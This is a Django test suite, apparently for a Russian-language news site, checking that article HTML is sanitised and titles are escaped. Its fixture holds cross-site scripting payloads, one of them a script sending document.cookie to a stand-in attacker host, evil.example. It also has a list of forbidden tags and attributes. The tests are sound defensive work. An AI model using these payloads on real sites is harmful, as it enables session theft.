import pytest

from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

HOSTILE_BODY = """
<p>Начало<script>document.location='https://evil.example/?c='+document.cookie</script></p>
<p><img src=x onerror="alert(1)">Фото</p>
<p><a href="javascript:alert(1)">ссылка</a>
<a href="https://nso.example.ru" onclick="x()">сайт</a></p>
<iframe src="https://evil.example"></iframe>
<style>body{display:none}</style>
<p style="position:fixed">Стиль</p>
<svg onload="alert(1)"><circle/></svg>
<h2>Подзаголовок</h2><ul><li>пункт</li></ul><blockquote>цитата</blockquote>
"""


@pytest.fixture
def hostile_article():
    return ArticleFactory(body=HOSTILE_BODY)


@pytest.mark.parametrize(
    "forbidden",
    [
        "<script",
        "onerror",
        "javascript:",
        "onclick",
        "<iframe",
        "<style",
        "style=",
        "<svg",
        "onload",
    ],
)
def test_hostile_html_never_reaches_the_page(client, hostile_article, forbidden):
    page = client.get(hostile_article.get_absolute_url()).content.decode()
    body = page.split('class="article__body"')[1].split("</div>")[0]

    assert forbidden not in body.lower()


def test_sanitiser_keeps_the_formatting_editors_use(hostile_article):
    body = hostile_article.body

    assert "<h2>Подзаголовок</h2>" in body
    assert "<ul><li>пункт</li></ul>" in body
    assert "<blockquote>цитата</blockquote>" in body
    assert 'href="https://nso.example.ru"' in body


def test_body_is_sanitised_on_every_save_not_only_in_forms(hostile_article):
    hostile_article.body = '<p onmouseover="x()">Новый текст<script>x()</script></p>'
    hostile_article.save()
    hostile_article.refresh_from_db()

    assert hostile_article.body == "<p>Новый текст</p>"


def test_title_and_lead_are_escaped(client):
    article = ArticleFactory(
        title='<script>alert("t")</script>Заголовок', lead="<img src=x onerror=alert(1)>"
    )

    page = client.get(article.get_absolute_url()).content.decode()

    assert '<script>alert("t")</script>' not in page
    assert "&lt;script&gt;" in page
    assert "<img src=x onerror" not in page
